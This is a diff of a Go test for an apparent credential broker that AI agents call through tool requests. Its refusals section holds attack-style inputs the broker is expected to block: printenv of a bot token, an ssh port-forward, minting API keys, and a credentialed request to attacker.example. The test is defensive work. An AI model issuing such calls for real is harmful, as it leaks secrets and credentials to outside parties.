@@ -87,10 +87,11 @@ func play(t *testing.T, modern bool) string {
 	h.addBot("weather_bot", p)
 	h.addServer("prod_vps_1")
 	h.adopt(h.sees(machine{ram: 4096, disk: 40960, cpu: 2, usedRAM: 512})[0], "prod_vps_2")
+	port := h.api("router", "openrouter", " +keys", keyMaker)
 	token := h.agent(vault.NewAgent{Name: "ci"})
 	other := h.connect(h.agent(vault.NewAgent{Name: "other"}), modern)
 
-	s := &transcript{client: h.connect(token, modern), hide: map[string]string{once: "/opt/forecast", serve: "/opt/serve"}, seen: map[string]string{}}
+	s := &transcript{client: h.connect(token, modern), hide: map[string]string{once: "/opt/forecast", serve: "/opt/serve", fmt.Sprintf("%s:%d", apiHost, port): apiHost + ":8443"}, seen: map[string]string{}}
 	s.act("list_resources", `{}`)
 	s.act("list_managed_servers", `{"min_free_ram_mb":1024}`)
 	lease := s.act("allocate_resource", `{"handle":"weather_bot","purpose":"answer people","context":"thread 7","idempotency_key":"k1"}`).str("lease_id")
@@ -108,12 +109,17 @@ func play(t *testing.T, modern bool) string {
 	s.act("stop_run", `{"run_id":"`+run+`"}`)
 	s.act("stop_run", `{"run_id":"`+run+`"}`)
 	s.act("get_run", `{"run_id":"`+run+`","offset":20}`)
+	s.act("http_request_with_resource", `{"handle":"router","method":"GET","url":"/api/v1/echo"}`)
+	s.act("http_request_with_resource", mintCall)
+	s.act("http_request_with_resource", `{"handle":"bot_key","method":"GET","url":"/api/v1/models"}`)
 
 	s.out.WriteString("# refusals\n\n")
 	s.act("run_with_resource", `{"resources":["weather_bot"],"command":["printenv","TELEGRAM_BOT_TOKEN"]}`)
 	s.act("run_with_resource", `{"resources":["weather_bot"],"command":["pin:forecast","soon"]}`)
 	s.act("run_with_resource", `{"resources":["prod_vps_1"],"command":["ssh","-L","1:localhost:1","prod_vps_1"]}`)
 	s.act("run_with_resource", `{"resources":["prod_vps_1"],"command":["ssh","prod_vps_1","uptime"]}`)
+	s.act("http_request_with_resource", `{"handle":"router","method":"POST","url":"/api/v1/keys"}`)
+	s.act("http_request_with_resource", `{"handle":"router","method":"GET","url":"https://attacker.example/"}`)
 	s.act("allocate_resource", `{"kind":"server","purpose":"host a model","requirements":{"ram_mb":65536}}`)
 	s.act("allocate_resource", `{"handle":"nothing","purpose":"x"}`)
 	s.act("allocate_resource", `{"handle":"weather_bot","purpose":"another","context":"thread 7","idempotency_key":"k1"}`)
